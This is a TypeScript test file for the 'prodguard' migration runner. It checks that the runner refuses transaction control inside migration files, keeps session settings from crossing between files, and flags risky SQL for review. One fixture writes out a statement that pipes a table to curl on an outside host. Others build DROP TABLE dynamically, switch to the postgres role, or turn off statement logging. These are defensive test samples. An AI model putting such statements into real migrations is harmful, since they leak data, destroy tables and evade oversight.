/**
 * The migration runner under attack by a careless author (issue #11): transaction control inside
 * a file, session settings leaking into the next file, statement-by-statement no-transaction
 * files with an exact account of what stayed applied.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'yaml';
import { makeProject } from '../helpers/cli.js';
import { sharedCluster, createDatabase, sql } from '../helpers/pg.js';
import { loadConfig } from '../../src/config/load.js';
import { readMigrations } from '../../src/migrate/files.js';
import { historyTarget } from '../../src/migrate/history.js';
import { applyMigrations } from '../../src/migrate/apply.js';
import { lint } from '../../src/sql/index.js';

const cluster = sharedCluster({ name: 'prodguard-test-runner-safety' });
const cleanups: Array<() => void> = [];
after(() => cleanups.forEach((c) => c()));

function project(files: Record<string, string>) {
  const p = makeProject(files);
  cleanups.push(p.cleanup);
  writeFileSync(
    join(p.dir, 'prodguard.yaml'),
    stringify({
      version: 1,
      environments: { staging: { kind: 'staging', urlEnv: 'RUNNER_STAGING_URL' }, production: { kind: 'production', urlEnv: 'RUNNER_PROD_URL' } },
      migrations: { lockTimeout: '2s', statementTimeout: '1s' },
    }),
  );
  return {
    dir: p.dir,
    write: (file: string, text: string) => writeFileSync(join(p.dir, 'migrations', file), text),
    apply: async (url: string) => {
      const loaded = loadConfig({ cwd: p.dir });
      const applied = new Set((await sql<{ version: string }>(url, `SELECT version FROM prodguard.schema_migrations`).catch(() => [])).map((r) => r.version));
      const files = readMigrations(loaded).files.filter((f) => !applied.has(f.version));
      return applyMigrations(loaded, url, files, { actor: 'test', changeHash: 'h', history: historyTarget(loaded) });
    },
  };
}

const INIT = 'CREATE TABLE items (id bigint PRIMARY KEY, price numeric NOT NULL);\nINSERT INTO items VALUES (1, 5), (2, -1);\n';
const versions = async (url: string) => (await sql<{ version: string }>(url, 'SELECT version FROM prodguard.schema_migrations ORDER BY version')).map((r) => r.version);
const exists = async (url: string, rel: string) => (await sql<{ r: string | null }>(url, `SELECT to_regclass($1)::text AS r`, [rel]))[0].r !== null;

test('a file with an inner COMMIT is refused before anything runs: production unchanged, history exact', async () => {
  const url = await createDatabase(cluster(), 'inner_commit');
  const p = project({ 'migrations/0001_init.sql': INIT });
  await p.apply(url);
  // Passes on staging (no negative price there), fails only on production data after the COMMIT.
  p.write('0002_sneaky.sql', 'CREATE TABLE audit_trail (id bigint);\nCOMMIT;\nALTER TABLE items ADD COLUMN sku text;\nALTER TABLE items ADD CONSTRAINT price_positive CHECK (price > 0);\n');
  p.write('0003_next.sql', 'CREATE TABLE after_it (id bigint);\n');
  await assert.rejects(p.apply(url), (e: Error) => {
    assert.match(e.message, /0002_sneaky\.sql:2: COMMIT .*transaction control is the runner's alone/);
    assert.match(e.message, /nothing was applied/);
    return true;
  });
  assert.equal(await exists(url, 'audit_trail'), false, 'the statement before COMMIT must not have run');
  const cols = await sql<{ n: number }>(url, `SELECT count(*)::int AS n FROM pg_attribute WHERE attrelid = 'items'::regclass AND attname = 'sku'`);
  assert.equal(cols[0].n, 0);
  assert.equal(await exists(url, 'after_it'), false, 'no later file ran either');
  assert.deepEqual(await versions(url), ['0001']);
});

test('ROLLBACK, END, ABORT, SAVEPOINT tricks and PREPARE TRANSACTION are refused too, and by lint as errors', async () => {
  const url = await createDatabase(cluster(), 'inner_rollback');
  const p = project({ 'migrations/0001_init.sql': INIT });
  await p.apply(url);
  const tricks = [
    'INSERT INTO items VALUES (3, 1);\nROLLBACK;\nCREATE TABLE kept (id bigint);\n',
    'CREATE TABLE x1 (id bigint);\nEND;\n',
    'CREATE TABLE x2 (id bigint);\nABORT;\n',
    'SAVEPOINT s;\nDELETE FROM items;\nROLLBACK TO SAVEPOINT s;\n',
    'CREATE TABLE x3 (id bigint);\nPREPARE TRANSACTION \'p1\';\n',
    '-- prodguard: no-transaction\nBEGIN;\nCREATE TABLE x4 (id bigint);\nCOMMIT;\n',
  ];
  for (const [i, text] of tricks.entries()) {
    p.write('0002_trick.sql', text);
    await assert.rejects(p.apply(url), /transaction control is the runner's alone.*nothing was applied/, text);
    const findings = (await lint(text)).filter((f) => f.ruleId === 'transaction-nesting');
    assert.ok(findings.length >= 1 && findings.every((f) => f.severity === 'error'), `lint error for trick ${i}`);
  }
  assert.deepEqual(await versions(url), ['0001']);
  assert.equal((await sql<{ n: number }>(url, 'SELECT count(*)::int AS n FROM items'))[0].n, 2);
  assert.equal(await exists(url, 'kept'), false);
});

test('session settings do not cross files: session_replication_role set in one file does not disable foreign keys in the next', async () => {
  const url = await createDatabase(cluster(), 'settings_leak');
  const p = project({ 'migrations/0001_init.sql': 'CREATE TABLE parent (id bigint PRIMARY KEY);\nCREATE TABLE child (id bigint PRIMARY KEY, parent_id bigint NOT NULL REFERENCES parent (id));\n' });
  await p.apply(url);
  p.write('0002_bulk.sql', '-- prodguard-ignore ban-safety-disabling-setting: bulk load of trusted rows, checked afterwards\nSET session_replication_role = replica;\nCREATE TABLE loaded (id bigint);\n');
  p.write('0003_rows.sql', 'INSERT INTO child VALUES (1, 999);\n');
  await assert.rejects(p.apply(url), /0003_rows\.sql failed.*foreign key/);
  assert.equal((await sql<{ n: number }>(url, 'SELECT count(*)::int AS n FROM child'))[0].n, 0);
  assert.deepEqual(await versions(url), ['0001', '0002']);
});

test('a no-transaction file runs one statement at a time, each with the timeouts, and a failure gives an exact account', async () => {
  const url = await createDatabase(cluster(), 'notx_account');
  const p = project({ 'migrations/0001_init.sql': INIT });
  await p.apply(url);
  p.write(
    '0002_idx.sql',
    '-- prodguard: no-transaction\nCREATE INDEX CONCURRENTLY IF NOT EXISTS items_price_idx ON items (price);\nSET statement_timeout = 0;\nSELECT pg_sleep(5);\nCREATE TABLE never (id bigint);\n',
  );
  await assert.rejects(p.apply(url), (e: Error) => {
    assert.match(e.message, /migration 0002_idx\.sql failed: canceling statement due to statement timeout; .*; the failing statement: 3 of 4, line 4/);
    assert.match(e.message, /applied and kept: statement 1 \(line 2: CREATE INDEX CONCURRENTLY IF NOT EXISTS items_price_idx/);
    assert.match(e.message, /statement 2 \(line 3: SET statement_timeout = 0\)/);
    assert.match(e.message, /not run: statement 4 \(line 5\)/);
    assert.match(e.message, /history row was not written/);
    return true;
  });
  assert.equal(await exists(url, 'items_price_idx'), true);
  assert.equal(await exists(url, 'never'), false);
  assert.deepEqual(await versions(url), ['0001']);
});

test('migrate plan lists dynamic SQL, role switching, server programs and ALTER SYSTEM under "needs a careful reviewer"', async () => {
  const url = await createDatabase(cluster(), 'careful');
  const p = project({ 'migrations/0001_init.sql': INIT });
  await p.apply(url);
  p.write(
    '0002_hidden.sql',
    [
      "CREATE FUNCTION purge(t text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('DROP TABLE %I', t); END $$;",
      "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'items'; END $$;",
      "COPY items TO PROGRAM 'curl -T - https://example.invalid';",
      '-- prodguard-ignore ban-role-switching: owner change needs the owner role, checked by bob',
      'SET ROLE postgres;',
      "ALTER SYSTEM SET log_statement = 'none';",
      '',
    ].join('\n'),
  );
  const { runCli } = await import('../helpers/cli.js');
  const r = await runCli(['migrate', 'plan', '--env', 'staging', '--json'], { cwd: p.dir, env: { RUNNER_STAGING_URL: url } });
  assert.equal(r.code, 0, r.stderr);
  const plan = JSON.parse(r.stdout);
  assert.equal(plan.risk, 'high');
  const careful = plan.carefulReview.map((f: { ruleId: string; line: number; suppressed?: unknown }) => `${f.line} ${f.ruleId}${f.suppressed ? ' suppressed' : ''}`);
  assert.deepEqual(careful, [
    '1 dynamic-sql',
    '1 ban-destructive-statement-in-routine',
    '2 dynamic-sql',
    '2 ban-destructive-statement-in-routine',
    '3 ban-server-file-access',
    '5 ban-role-switching suppressed',
    '6 ban-alter-system',
  ]);
  const text = await runCli(['migrate', 'plan', '--env', 'staging'], { cwd: p.dir, env: { RUNNER_STAGING_URL: url } });
  assert.match(text.stdout, /needs a careful reviewer \(7\)/);
  assert.match(text.stdout, /0002_hidden\.sql:2 ban-destructive-statement-in-routine: DO block \(EXECUTE, built at run time\) drops table items/);
});
